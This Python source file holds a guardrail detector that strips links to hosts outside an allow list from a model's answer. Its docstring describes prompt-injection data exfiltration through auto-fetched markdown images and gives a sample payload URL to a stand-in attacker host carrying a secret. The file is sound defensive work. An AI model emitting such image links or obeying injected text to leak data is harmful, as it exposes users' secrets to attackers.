"""Finds links in a model's answer that point outside the allow list.

A rendered image or link to an attacker's host is how an injected prompt gets
data out (`![](https://evil.example/?q=<secret>)`): the client fetches the URL
without anyone clicking. Markdown images, links, reference definitions,
autolinks, HTML tags with src/href, and bare URLs are all covered; relative
links stay, because they cannot leave the client's own origin.
"""

from __future__ import annotations

import re
from typing import Callable, Iterator
from urllib.parse import urlsplit

from services.guardrail.findings import Finding

LINK_REMOVED = "[link removed]"

_TITLE = r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
# A destination may hold balanced parentheses: https://en.wikipedia.org/wiki/Foo_(bar), javascript:alert(1).
_DESTINATION = r"(?:<[^<>\n]*>|(?:[^()\s]|\([^()\s]*\))*)"
# No class may cross the delimiter that opens the next candidate ("[", "<", "("): a text of many
# unclosed brackets must cost linear time, not quadratic.
_LINKS = re.compile(
    rf"""
      (?P<image>!\[(?P<image_text>[^\[\]\n]*)\]\([ \t]*(?P<image_url>{_DESTINATION}){_TITLE}[ \t]*\))
    | (?P<link>\[(?P<link_text>[^\[\]\n]*)\]\([ \t]*(?P<link_url>{_DESTINATION}){_TITLE}[ \t]*\))
    | (?P<definition>^[ ]{{0,3}}\[[^\]\n]+\]:[ \t]*(?P<definition_url><[^<>\n]*>|\S+){_TITLE}[ \t]*$)
    | (?P<html><[a-z][a-z0-9]*\b[^<>]*?\b(?:src|href|srcset|action|data)[ \t]*=[ \t]*["']?(?P<html_url>[^"'\s<>]+)[^<>]*>)
    | (?P<autolink><(?P<autolink_url>[a-z][a-z0-9+.-]{{1,31}}:[^<>\s]+)>)
    | (?P<bare>\b(?:https?|ftp)://[^\s<>"'`]+|\bwww\.[a-z0-9-]+\.[^\s<>"'`]+)
    """,
    re.IGNORECASE | re.VERBOSE | re.MULTILINE,
)
# Characters that end a sentence rather than a bare URL.
_TRAILING = ".,;:!?)]}'\""
_URL_IN_TEXT = re.compile(r"(?:https?|ftp)://|www\.", re.IGNORECASE)


class LinkFilter:
    """A detector whose findings replace untrusted links by their text or by "[link removed]"."""

    def __init__(self, allows_host: Callable[[str], bool]):
        self._allows_host = allows_host

    def __call__(self, text: str) -> Iterator[Finding]:
        for match in _LINKS.finditer(text):
            kind = match.lastgroup
            start, end = match.start(), match.end()
            url = match.group(f"{kind}_url") if kind != "bare" else match.group()
            if kind == "bare":
                stripped = url.rstrip(_TRAILING)
                end -= len(url) - len(stripped)
                url = stripped if "://" in stripped else f"http://{stripped}"
            problem = self._problem(url.strip("<>"))
            if problem is None:
                continue
            check, reason = problem
            label = match.group(f"{kind}_text") if kind in ("image", "link") else None
            # Link text that is itself a URL would render as a link again.
            replacement = label if label and label.strip() and not _URL_IN_TEXT.search(label) else LINK_REMOVED
            yield Finding(check, start, end, 0.9, reason, replacement)

    def _problem(self, url: str) -> tuple[str, str] | None:
        try:
            parts = urlsplit(url)
            host = parts.hostname
        except ValueError:
            return "link.malformed", "link that cannot be parsed"
        scheme = parts.scheme.lower()
        if not scheme and not parts.netloc:
            return None
        if scheme not in ("", "http", "https"):
            return "link.unsafe_scheme", "link with a scheme other than http or https"
        if not host or not self._allows_host(host):
            # The host is not named: an exfiltration URL can carry the data in its subdomain.
            return "link.untrusted_host", "link to a host outside the allow list"
        return None
